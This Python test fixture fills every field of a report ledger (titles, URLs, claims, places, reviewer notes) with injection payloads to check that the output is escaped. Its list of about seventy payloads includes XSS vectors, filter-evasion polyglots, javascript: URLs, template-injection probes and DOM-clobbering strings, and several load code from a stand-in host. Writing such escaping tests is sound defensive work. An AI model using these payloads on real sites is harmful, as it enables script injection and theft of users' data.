"""A ledger in which every field that a report can fill holds something that would run, were it not escaped.

The payloads are of the kinds that collections of attacks list: elements and handlers, ways out of an
attribute, addresses that run, what a parser reads twice, templates, and names that stand in for the page's
own parts. What of them runs calls `alert`, asks another site for something, or leaves this page.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from msgspec.structs import replace

from marsad.ledger.putting import Entry
from marsad.ledger.reviewing import judging
from marsad.ledger.store import Store
from marsad.records.interval import parse
from marsad.records.reading import (
    Actor,
    Claim,
    Cue,
    Figure,
    Incident,
    IncidentStatus,
    Notice,
    Party,
    Place,
    Reading,
    Relation,
    Responsibility,
    Scope,
    Theme,
    Time,
    Toll,
)
from marsad.records.spans import Span

from ..ledger import making

DISPUTED = 6  # payloads that a second report gives another number for
AWAY = "http://away.example"
PAYLOADS = [
    # elements and their handlers
    "<script>alert(1)</script>",
    "<ScRiPt src=//away.example/x></sCrIpT>",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert`1`>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script href=data:,alert(1) />",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x\">",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//away.example/x>",
    "<link rel=stylesheet href=//away.example/x.css>",
    "<style>@import '//away.example/x.css'; *{display:none}</style>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    "<base href=//away.example/>",
    "<form action=//away.example/><button autofocus>x",
    '<div style="background:url(//away.example/x)">',
    # out of an attribute, a text or a comment
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover=alert(1) autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1) x=`",
    "x onmouseover=alert(1) tabindex=0 autofocus onfocus=alert(1)",
    '" style="background:url(//away.example/x)" x="',
    "</title></textarea></style></script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</q></blockquote></span></p></article></main></body></html><script>alert(1)</script>",
    "*/alert(1)/*",
    "';alert(1);//\\';alert(1);//\";alert(1);//\\\";alert(1);//--></script>\">'><script>alert(1)</script>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</scRipt/--!>",
    # addresses that run
    "javascript:alert(1)",
    "JaVaScRiPt&#58;alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//away.example/%2e%2e",
    "\\\\away.example\\x",
    # read twice
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<plaintext>",
    "<textarea>",
    # templates, and what stands in for the page's own parts
    "{{ 7 * 7 }}{{ cycler.__init__.__globals__ }}",
    "{% include 'base.html' %}{# x #}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "{{constructor.constructor('alert(1)')()}}",
    "{__class__}{0}%s%(x)s",
    "<form id=adding><input name=action><input name=elements></form>",
    "<img name=getElementById><a id=inspector href=//away.example>",
    "inspector",
    "__proto__",
    "constructor",
    'at-1" id="main',
    "a\u202e</td>\u2066<td>\u200f",
    "\u2028alert(1)\u2029//",
]


def poisoned(where: Path | str) -> Store:
    """One report a payload; the payload is in every field, and people's words hold it too."""
    ledger = Store.open(where, create=True, command="test")
    ledger.put_all(
        [entry(payload, number) for number, payload in enumerate(PAYLOADS)]
        + [
            entry(payload, number, men="900", outlet="Post", rival="River Panel")
            for number, payload in enumerate(PAYLOADS[:DISPUTED])
        ]
    )
    _judged(ledger)
    return ledger


def entry(payload: str, number: int, *, men: str = "300", outlet: str = "Wire", rival: str = "") -> Entry:
    """A report that the payload fills."""
    line = " ".join(payload.split())
    writing = _Writing(line, men, rival or line)
    day = f"2019-03-{1 + number % 28:02}"
    reading, text = writing.reading(day), writing.text
    document = making.frozen(
        text,
        title=payload,
        publisher=f"{payload} {outlet}",
        author=payload,
        dateline=payload,
        language=line,
        corrections=(payload,),
        source=f"{payload}.txt",
        url=f"{outlet if outlet != 'Wire' else ''}{'javascript:' * (number % 2)}https://{number}.example/?{payload}",
        published=making.given(day),
    )
    whole = replace(reading, document=replace(document, reader=making.READER, gazetteer="places@1"))
    return Entry(text.encode(), document, whole)


def _judged(ledger: Store) -> None:
    """People's own words, which nobody checks either: who they are, why, and who was said to speak."""
    claims = list(ledger.claims())
    for payload, claim in zip(PAYLOADS[:12], claims, strict=False):
        judging.of_record(ledger, claim.id, "accept", {}, by=payload, reason=payload)
    for payload, source in zip(PAYLOADS[:12], list(ledger.sources()), strict=False):
        ledger.rate(source.key, "C", by=payload, reason=payload)


@dataclass
class _Writing:
    """A text in which a payload stands wherever a record can."""

    line: str
    men: str
    holder: str
    text: str = ""
    where: dict[str, Span] = field(default_factory=dict)

    def reading(self, day: str) -> Reading:
        for name, words in (
            ("holder", self.holder), ("cue", "warned"), ("said", f"that {self.line} of {self.line} held {self.men} men in Karoum"),
            ("fights", f"{self.line} fights the others"), ("when", "in 2019"),
        ):  # fmt: skip
            self.where[name] = self._write(words)
        return self._records(day)

    def _write(self, words: str) -> Span:
        begin = len(self.text)
        self.text += f"{words}\n"
        return begin, begin + len(words)

    def _at(self, words: str) -> Span:
        begin = self.text.index(words, self.where["said"][0])
        return begin, begin + len(words)

    def _party(self) -> Party:
        own = "a1" if self.holder == self.line else None
        return Party(text=self.holder, spans=(self.where["holder"],), actor=own, kind="organisation")

    def _records(self, day: str) -> Reading:
        known: dict[str, Any] = {"reader": making.READER}
        party = self._party()
        true_of = parse("2019", time="t1")
        claims = [
            Claim(
                id=f"c{number}", spans=(self.where[name],), text=self._words(name), kind="attributed", source=party,
                chain=(party,), cue=Cue(text="warned", spans=(self.where["cue"],)), about=("a1",), true_of=true_of,
                polarity=("denied", "affirmed")[number % 2], themes=(Theme(theme="strength", direction="up"),), **known,
            )
            for number, name in enumerate(("said", "fights"), 1)
        ]  # fmt: skip
        number = self._at(self.men)
        return Reading(
            document=making.frozen("x"),
            claims=tuple(claims),
            figures=(
                Figure(
                    id="f1", claim="c1", spans=(number,), text=self.men, measure="strength.fighters", unit=self.line, low=int(self.men),
                    high=int(self.men), best=int(self.men), per=self.line, population=self.line, subject="a1", share_of=self.line,
                    scope=Scope(text=self.line, spans=(self._at(self.line),)), places=("p1",), as_of=parse("2019-02"), **known,
                ),
            ),
            incidents=(
                Incident(
                    id="i1", claims=("c1",), spans=(number,), type="ASSAULT", mode=self.line, weapons=(self.line,),
                    statuses=(IncidentStatus(claim="c1", value="occurred"),), places=("p1",), date=true_of,
                    responsibility=(Responsibility(claim="c1", value="accused"),), sides=((party,), (party,)),
                    deaths=Toll(low=1, best=2, high=3), **known,
                ),
            ),
            relations=(
                Relation(
                    id="r1", claim="c2", spans=(self.where["fights"],), type="fights", source=party, target=party, **known
                ),
            ),
            places=(
                Place(
                    id="p1", spans=(self._at("Karoum"),), text="Karoum", name=self.line, kind="town", gazetteer="x@1",
                    gazetteer_id=self.line, latitude=35.5, longitude=40.25, country="SY", admin1=self.line, where_prec=1, **known,
                ),
                Place(id="p2", spans=(self.where["fights"],), text=self._words("fights"), name=f"{self.line} II", kind="other", **known),
            ),
            times=(
                Time(
                    id="t1", spans=(self.where["when"],), text="in 2019", type="DATE", value=self.line, edtf="2019",
                    earliest="2019-01-01", latest="2019-12-31", date_prec=5, **known,
                ),
            ),
            actors=(
                Actor(
                    id="a1", name=self.line, aliases=(f"{self.line} II",), role=self.line, kind="armed_group",
                    mentions=(self._at(self.line),), **known,
                ),
            ),
            warnings=(Notice(code="implausible_ratio", message=self.line, records=("f1", "c1")),),
        )  # fmt: skip

    def _words(self, name: str) -> str:
        return self.text[slice(*self.where[name])]
